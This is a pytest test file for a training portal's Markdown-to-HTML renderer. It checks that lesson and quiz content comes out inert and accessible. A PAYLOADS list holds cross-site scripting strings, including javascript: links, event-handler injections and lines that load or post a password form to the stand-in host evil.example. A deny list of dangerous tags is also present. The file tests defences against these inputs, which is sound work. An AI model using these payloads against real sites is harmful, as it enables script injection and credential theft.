"""What an author writes comes out dressed, and inert."""

from pathlib import Path

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portal.domain.catalogue import services
from portal.domain.catalogue.lesson_html import fill_placeholders
from portal.domain.item_kinds.match_answers import shuffle_by_name
from portal.platform.db import stamp, transaction
from tests.domain.catalogue.folders import CHECK, ITEM, SVG, lesson, write
from tests.domain.catalogue.kinds_written import check
from tests.page_reading import H, words


def render_lesson(folder, body: str, changes=None) -> str:
    write(folder, {**(changes or {}), "sample/lessons/second.md": lesson(body)})
    reading = services.check_folder(folder)
    assert reading.faults.sentences() == []
    return reading.modules[0].lessons[1].html


def parse_elements(html: str) -> list:
    parser = html5lib.HTMLParser()
    root = parser.parse(f"<!DOCTYPE html><html lang=en><title>x</title><body>{html}</body>")
    assert parser.errors == []
    body = root.find(f"{H}body")
    assert body is not None
    return list(body.iter())


PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "text <b onmouseover=alert(1)>x</b>",
    "[x](javascript:alert%281%29 'a')",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "<javascript:alert(1)>",
    '[x](https://ok.example/"onmouseover=alert(1)//)',
    '[x](https://ok.example "\\" onmouseover=alert(1) x=\\"")',
    "::: details <script>alert(1)</script>\n<iframe src=//evil.example></iframe>\n:::",
    "<form action=//evil.example><input type=password></form>",
    "<style>@import '//evil.example';</style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "`<script>alert(1)</script>`",
    '```"><script>alert(1)</script>\nx\n```',
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_runs_in_a_lesson(tmp_path, payload):
    write(tmp_path, {"sample/lessons/second.md": lesson(payload + "\n")})

    for element in parse_elements(services.check_folder(tmp_path).modules[0].lessons[1].html):
        assert_inert(element)


@pytest.mark.parametrize("payload", [p.replace("\\", "").replace('"', "'").split("\n")[0] for p in PAYLOADS])
def test_no_payload_runs_in_an_item_or_a_check(tmp_path, payload):
    item = (
        ITEM.format(key="one", outcome="see")
        .replace("What is it?", payload)
        .replace('"This"', f'"{payload}"')
    )
    item = item.replace("Because it is.", payload).replace("Yes.", payload)
    one = CHECK.replace('"This"', f'"{payload}"').replace("Which?", payload).replace("Yes.", payload)
    steps = check("order", "steps").replace("Stop the *lorry*", payload)
    pairs = check("match", "pairs").replace("A child at risk", payload).replace("Nobody", f"{payload} x")
    bank = item + ITEM.format(key="two", outcome="say")
    lessons = lesson(f"{one}\n{steps}\n{pairs}")
    write(tmp_path, {"sample/items/bank.toml": bank, "sample/lessons/second.md": lessons})

    module = services.check_folder(tmp_path).modules[0]

    one = module.items[0]
    choice = one.content["choices"][0]
    parts = (one.prompt_html, one.explanation_html, choice["html"], choice["feedback_html"])
    assert all(parts)
    for html in (*parts, module.lessons[1].html):
        for element in parse_elements(html):
            assert_inert(element)


def assert_inert(element) -> None:
    tag = element.tag.removeprefix(H)
    refused = {"script", "iframe", "style", "svg", "math", "form", "object", "embed", "link", "meta", "base"}
    assert tag not in refused
    assert tag != "img" or (element.get("src") or "").startswith("/media/")
    assert not any(name.startswith("on") or name == "style" for name in element.attrib)
    assert ":" not in (element.get("href") or "") or element.get("href").startswith(
        ("https:", "mailto:", "tel:")
    )


def test_raw_html_shows_as_text(tmp_path):
    html = render_lesson(tmp_path, "Write <b>this</b>.\n\n<div>that</div>\n")

    assert "Write &lt;b&gt;this&lt;/b&gt;." in html
    assert "&lt;div&gt;that&lt;/div&gt;" in html


def test_a_template_expression_stays_text(tmp_path):
    assert "{{7*7}} and {% x %}" in fill_plain(render_lesson(tmp_path, "{{7*7}} and {% x %}\n"))


def fill_plain(html: str) -> str:
    return str(fill_placeholders(html))


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("# One\n\n## Two\n", ["h2", "h3"]),
        ("## Two\n\n### Three\n", ["h2", "h3"]),
        ("Text\n", []),
    ],
)
def test_headings_start_below_the_title_of_the_page(tmp_path, body, expected):
    found = [e for e in parse_elements(render_lesson(tmp_path, body)) if e.tag.startswith(f"{H}h")]

    assert [e.tag.removeprefix(H) for e in found] == expected
    assert all("govuk-heading-" in e.get("class") for e in found)


def test_containers_wear_the_design_system(tmp_path):
    nested = "::: details What *if*\n- one\n\n::: inset\nin\n:::\n:::\n"
    body = f"::: inset\nA **b**\n:::\n\n::: warning\nCareful\n:::\n\n{nested}"
    html = render_lesson(tmp_path, body)

    assert '<div class="govuk-inset-text">\n<p class="govuk-body">A <strong>b</strong></p>' in html
    assert '<span class="govuk-visually-hidden">Warning</span>\n<p class="govuk-body">Careful</p>' in html
    assert '<span class="govuk-details__summary-text">What <em>if</em></span>' in html
    assert html.count("govuk-inset-text") == 2
    parse_elements(html)


def test_a_table_scrolls_in_a_frame_that_the_keyboard_reaches(tmp_path):
    found = parse_elements(render_lesson(tmp_path, '| Who | *What* "x" |\n|---|--:|\n| a | b |\n'))

    frame = next(e for e in found if e.get("role") == "region")
    assert (frame.get("aria-label"), frame.get("tabindex")) == ('Table: Who, What "x"', "0")
    assert [e.tag for e in frame] == [f"{H}table"]
    assert [e.get("scope") for e in found if e.tag == f"{H}th"] == ["col", "col"]
    numeric = [e for e in found if e.get("class", "").endswith("--numeric")]
    assert [words(e) for e in numeric] == ['What "x"', "b"]


def test_a_corner_without_words_heads_nothing(tmp_path):
    found = parse_elements(render_lesson(tmp_path, "| | What |\n|---|---|\n| a | b |\n"))

    assert [(words(e), e.get("scope")) for e in found if e.tag == f"{H}th"] == [("What", "col")]
    assert [words(e) for e in found if e.tag == f"{H}td"] == ["", "a", "b"]


def test_a_figure_has_a_drawing_for_phones_and_its_content_as_text(tmp_path):
    narrow = SVG.replace("0 0 100 50", "0 0 30 90")
    body = "::: figure media/box.svg\nA box, in words.\n\nMore [[force.nccu_contact]].\n:::\n"
    found = parse_elements(render_lesson(tmp_path, body, {"sample/media/box.narrow.svg": narrow}))

    image = next(e for e in found if e.tag == f"{H}img")
    source = next(e for e in found if e.tag == f"{H}source")
    details = next(e for e in found if e.tag == f"{H}details")
    assert image.get("src").startswith("/media/")
    assert (image.get("alt"), image.get("width"), image.get("height")) == ("A drawing", "100", "50")
    assert source.get("srcset").endswith("/box.narrow.svg")
    assert (source.get("media"), source.get("width")) == ("(max-width: 640px)", "30")
    assert "A box, in words." in words(details)


def test_a_check_needs_no_script_and_no_form(tmp_path):
    second = CHECK.replace('"try"', '"again"').replace('kind = "single"', 'kind = "multiple"')
    second = second.replace('feedback = "No."', 'feedback = "No."\ncorrect = true')
    found = parse_elements(render_lesson(tmp_path, f"{CHECK}\n{second}"))

    inputs = [e for e in found if e.tag == f"{H}input"]
    labels = {e.get("for") for e in found if e.tag == f"{H}label"}
    ids = [e.get("id") for e in found if e.get("id")]
    assert [e.get("type") for e in inputs] == ["radio", "radio", "checkbox", "checkbox"]
    assert {e.get("id") for e in inputs} == labels
    assert len(ids) == len(set(ids))
    assert not any(e.tag in {f"{H}form", f"{H}button"} for e in found)
    feedback = [words(e) for e in found if e.tag == f"{H}details"]
    assert feedback[:3] == [
        "If you chose this: ThisCorrectYes.",
        "If you chose this: ThatNot correctNo.",
        "Show the explanationSo.",
    ]


SOLVED = {
    "order": {
        "Stop the lorry": "Place 1",
        "Call the control room": "Place 2",
        "Wait for the ambulance": "Place 3",
    },
    "match": {
        "An intelligence report": "The NCCU",
        "A child at risk": "Children's services",
        "A referral": "The NCCU",
    },
}
OFFERED = {"order": ["1", "2", "3"], "match": ["Children's services", "Nobody", "The NCCU"]}


@pytest.mark.parametrize("kind", sorted(SOLVED))
def test_a_check_of_lists_needs_no_script_and_no_form_and_folds_what_is_right(tmp_path, kind):
    html = render_lesson(tmp_path, f"{check(kind)}\n{check(kind, 'again')}")
    found = parse_elements(html)

    selects = [e for e in found if e.tag == f"{H}select"]
    labels = {e.get("for"): words(e) for e in found if e.tag == f"{H}label"}
    half = len(selects) // 2
    asked = [labels[e.get("id")] for e in selects[:half]]
    assert sorted(asked) == sorted(SOLVED[kind])
    assert len({e.get("id") for e in selects}) == len(selects) == len(labels)
    for select in selects:
        options = [words(e) for e in select.iter(f"{H}option")]
        assert (options[0], sorted(options[1:])) == ("Choose", OFFERED[kind])
        assert select.get("name") is None  # so that no form could send it
    assert not any(e.tag in {f"{H}form", f"{H}button", f"{H}input"} for e in found)
    folded = [words(e) for e in found if e.tag == f"{H}details"]
    ask = {"order": "Show its place: ", "match": "Show what belongs to it: "}[kind]
    assert folded[:half] == [f"{ask}{thing}{SOLVED[kind][thing]}" for thing in asked]
    assert folded[half] == "Show the explanationSo."
    assert html == render_lesson(
        tmp_path, f"{check(kind)}\n{check(kind, 'again')}"
    )  # the same bytes each time


@settings(max_examples=60)
@given(st.lists(st.text(min_size=1), min_size=2, max_size=12, unique=True), st.text(max_size=20))
def test_the_steps_of_a_check_are_never_shown_in_their_order(steps, name):
    shown = shuffle_by_name(steps, name)

    assert sorted(shown) == sorted(steps)
    assert shown != steps


def test_a_check_keeps_the_forces_words_open_and_lists_long_answers(tmp_path):
    text = check("match").replace('"The NCCU"', '"The **command unit** at [[force.nccu_contact]]"')
    html = render_lesson(tmp_path, text)

    option = next(e for e in parse_elements(html) if e.tag == f"{H}option" and "unit" in words(e))
    assert words(option) == "The command unit at {{force:nccu_contact}}"
    assert "The answers to choose from:" in html


def test_links_lead_within_the_portal(tmp_path):
    html = render_lesson(tmp_path, "[a](lesson:first) [b](media/box.svg) [c](https://x.example/?a=b&c=d)\n")

    assert 'href="/learning/modules/sample/lessons/first"' in html
    assert '/box.svg"' in html
    assert 'href="https://x.example/?a=b&amp;c=d"' in html


def test_slots_are_filled_and_escaped_when_shown(database, tmp_path):
    html = render_lesson(
        tmp_path, "Ring [[force.nccu_contact]] now. Ask about [OIC](term:OIC). `[[force.x]]`\n"
    )
    assert "Organised" not in html
    with transaction():
        services.publish_folder(tmp_path, at=stamp())

    shown = str(fill_placeholders(html))

    assert "Ring" not in shown
    assert 'title="Organised &lt;immigration&gt; &amp; &#34;crime&#34;."' in shown
    assert 'href="/glossary#term-oic"' in shown
    assert "[[force.x]]" in shown
    parse_elements(shown)


def test_a_term_that_is_gone_says_nothing(database):
    assert str(fill_placeholders('<a title="{{term:gone}}">x</a>')) == '<a title="">x</a>'


@pytest.mark.slow
def test_every_text_of_the_modules_is_valid_html_with_every_slot_filled(database):
    modules = Path(__file__).resolve().parents[3] / "modules"
    with transaction():
        published = services.publish_folder(modules, at=stamp())

    assert len(published.versions) == 4
    for version in published.versions:
        texts = [lesson.html for lesson in version.lessons] + [version.job_aid_html or ""]
        texts += [
            f"{i.stimulus_html or ''}<p>{i.prompt_html}</p><p>{i.explanation_html}</p>" for i in version.items
        ]
        for html in texts:
            shown = str(fill_placeholders(html))
            ids = [e.get("id") for e in parse_elements(shown) if e.get("id")]
            assert len(ids) == len(set(ids))
            assert "{{" not in shown
            assert 'title=""' not in shown
